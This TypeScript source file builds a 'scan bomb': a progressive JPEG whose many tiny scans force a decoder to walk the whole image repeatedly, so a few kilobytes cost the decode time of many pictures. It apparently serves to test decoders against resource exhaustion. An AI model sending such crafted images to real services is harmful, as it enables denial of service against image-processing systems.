import { JPEG_END, JPEG_START, jpegSegment, MARKER } from './jpeg-bytes.ts'

/** A run of 2^14 blocks in which nothing more comes, with 14 bits that say how many further ones. */
const END_OF_LONGEST_RUN = 0xe0
const RUN_BITS = 14
const RUN_MOST = 2 ** (RUN_BITS + 1) - 1

/**
 * A grey progressive JPEG whose every scan walks over all of the picture and says nothing about it, in a few dozen bytes each:
 * decoding it takes the time of that many pictures (libjpeg-turbo's "two issues with the JPEG standard").
 */
export function scanBomb({ width, height, scans }: { width: number; height: number; scans: number }): Buffer {
  const frame = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0])
  frame.writeUInt16BE(height, 1)
  frame.writeUInt16BE(width, 3)
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  const scan = Buffer.concat([jpegSegment(MARKER.sos, Buffer.from([1, 1, 0, 1, 63, 0])), emptyRuns(blocks)])
  return Buffer.concat([
    JPEG_START,
    jpegSegment(MARKER.dqt, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    jpegSegment(MARKER.sof2, frame),
    oneCode(0x00, 0),
    oneCode(0x10, END_OF_LONGEST_RUN),
    jpegSegment(MARKER.sos, Buffer.from([1, 1, 0, 0, 0, 0])),
    // One bit a block: no difference to the one before.
    Buffer.alloc(Math.ceil(blocks / 8)),
    ...Array<Buffer>(scans).fill(scan),
    JPEG_END,
  ])
}

/** A table of one code, of one bit: 0. */
function oneCode(table: number, symbol: number): Buffer {
  return jpegSegment(MARKER.dht, Buffer.from([table, 1, ...Array(15).fill(0), symbol]))
}

function emptyRuns(blocks: number): Buffer {
  let bits = ''
  for (let left = blocks; left > 0; left -= RUN_MOST) {
    const more = Math.max(0, Math.min(left, RUN_MOST) - 2 ** RUN_BITS)
    bits += `0${more.toString(2).padStart(RUN_BITS, '0')}`
  }
  const bytes = bits.match(/.{1,8}/g) ?? []
  // A byte of ones would be a marker, so it is followed by an empty one.
  return Buffer.from(
    bytes.flatMap((byte) => (byte === '11111111' ? [0xff, 0] : [Number.parseInt(byte.padEnd(8, '1'), 2)])),
  )
}
